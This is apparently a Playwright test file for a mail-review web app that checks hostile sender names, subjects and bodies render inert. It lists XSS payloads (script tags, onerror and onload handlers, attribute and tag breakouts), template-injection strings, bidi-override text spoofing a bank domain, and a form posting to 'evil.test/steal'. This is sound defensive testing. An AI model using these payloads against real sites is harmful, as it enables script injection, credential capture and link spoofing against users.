"""Mail whose sender means ill: whatever they write anywhere, the owner's pages show it and do nothing."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.checks import keep_picture, watch_console
from tests.browser.review_fixture import Fixture, fixture, visit

pytestmark = pytest.mark.browser

EVIL = "http://evil.test"
SHOWN = {
    "script": "<script>window.pwned=1</script>",
    "handler": "<img src=x onerror=window.pwned=1>",
    "svg": "<svg/onload=window.pwned=1>",
    "breaks-attribute": '"\' autofocus onfocus=window.pwned=1 x="',
    "breaks-script": "</script><script>window.pwned=1</script>",
    "breaks-title": "</title></style></textarea></noscript><iframe srcdoc='<script>top.pwned=1</script>'>",
    "pixel": f"<img src={EVIL}/pixel.gif width=1 height=1>",
    "style": f"<style>body{{background:url({EVIL}/css)}} .flash{{display:none}}</style>",
    "link": f"<link rel=stylesheet href={EVIL}/a.css><base href={EVIL}/>",
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/">',
    "form": f"<form action={EVIL}/steal><button>Release</button></form>",
    "address": "<a href=javascript:window.pwned=1>click</a>",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
}
BIDI = "\u202egro.knab\u2066\u2069\u200e\u200f\u061c\u2067"
TURNS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fixture]:
    with fixture(tmp_path_factory.mktemp("hostile")) as opened:
        for number, evil in enumerate(SHOWN.values()):
            opened.challenge(
                f"m{number:02}",
                f'"{evil}"@pitch{number}.test'.lower(),
                name=evil,
                subject=evil,
                text=evil,
                html=f"<p>Hi</p>{evil}<div style='position:fixed;inset:0'>over everything</div>"
                if number % 2
                else None,
                note=evil,
            )
        opened.challenge(
            "bidi",
            "bank@x.test",
            name=BIDI,
            subject=f"Bill {BIDI}\x00\x07\n2",
            text=f"Pay {BIDI}",
            note=BIDI,
        )
        yield opened


FOREIGN = "iframe, style, base, meta[http-equiv], svg:not(.icon), object, embed, textarea"
LOOK = """
(foreign) => {
  const all = (selector, value) => [...document.querySelectorAll(selector)].map(value);
  return {
    ran: window.pwned ?? null,
    foreign: all(foreign, (one) => one.outerHTML),
    scripts: all("script", (one) => one.src.split("?")[0]),
    images: all("img", (one) => new URL(one.src).origin),
    links: [...new Set(all("a", (one) => one.protocol + "//" + one.host))],
    forms: [...new Set(all("form", (one) => new URL(one.action).origin))],
    handlers: all("*", (one) => one.getAttributeNames()).flat().filter((name) => /^on|^style$|^autofocus$/.test(name)),
    html: document.documentElement.outerHTML,
  };
}
"""


def inert(page: Page, here: Fixture) -> None:
    """No script ran, and nothing in the page is of the mail's making."""
    seen = page.evaluate(LOOK, FOREIGN)
    assert not set(TURNS) & set(seen.pop("html"))
    assert seen == {
        "ran": None,
        "foreign": [],
        "scripts": [f"{here.address}/static/{name}.js" for name in ("page", "steady", "outbox", "review")],
        "handlers": [],
        **{key: [here.address] for key in ("images", "links", "forms")},
    }


def watched(page: Page, here: Fixture) -> list[str]:
    """What the page asks for that is not ours, and what it says."""
    found = watch_console(page)
    page.on("request", lambda request: found.append(request.url) if not ours(request.url, here) else None)
    page.on("dialog", lambda dialog: (found.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: found.append(popup.url))
    return found


def ours(url: str, here: Fixture) -> bool:
    return url.startswith(f"{here.address}/")


def test_in_a_list_a_search_and_a_senders_record(here: Fixture, browser: Browser, shots: Path) -> None:
    with visit(here, browser, "/devices") as page:
        found = watched(page, here)
        for path in ("/review", "/review?view=all&note=1", f"/review?q={quote('<svg/onload')}"):
            page.goto(here.address + path)
            expect(page.locator(".item").first).to_be_visible()
            inert(page, here)
        page.goto(f"{here.address}/review")
        for number, evil in enumerate(SHOWN.values()):
            row = page.locator(f"[data-id=m{number:02}]")
            expect(row.locator(".line a")).to_have_text(evil, use_inner_text=True)
            expect(row.locator(".sender-note bdi")).to_have_text(evil)
        expect(page.locator("[data-id=bidi] .line a")).to_have_text("Bill gro.knab 2")
        keep_picture(page, shots / "review-hostile.png", full_page=True)
        for number in range(len(SHOWN)):
            page.goto(f"{here.address}/review")
            line = page.locator(f"[data-id=m{number:02}]")
            line.locator(".menu summary").click()
            line.locator(".sheet a").click()
            expect(page.locator(".item")).to_have_count(1)
            inert(page, here)
        assert found == []


@pytest.mark.parametrize("number", range(len(SHOWN)), ids=SHOWN)
def test_in_a_mail(here: Fixture, browser: Browser, number: int) -> None:
    evil = [*SHOWN.values()][number]
    with visit(here, browser, "/devices") as page:
        found = watched(page, here)
        page.goto(f"{here.address}/review/mail/m{number:02}")
        expect(page.get_by_role("heading", level=1)).to_have_text(evil)
        shown = page.locator("pre.text")
        if number % 2:
            expect(shown).not_to_be_empty()
        else:
            expect(shown).to_have_text(evil)
        inert(page, here)
        assert found == []


def test_a_mail_that_turns_letters_round(here: Fixture, browser: Browser) -> None:
    with visit(here, browser, "/review/mail/bidi") as page:
        expect(page.get_by_role("heading", level=1)).to_have_text("Bill gro.knab 2")
        # In the order in which mail programs show it, which is also what was read.
        expect(page.locator("pre.text")).to_have_text("Pay bank.org")
        assert page.title() == "Bill gro.knab 2 · Pitchgate"
        inert(page, here)
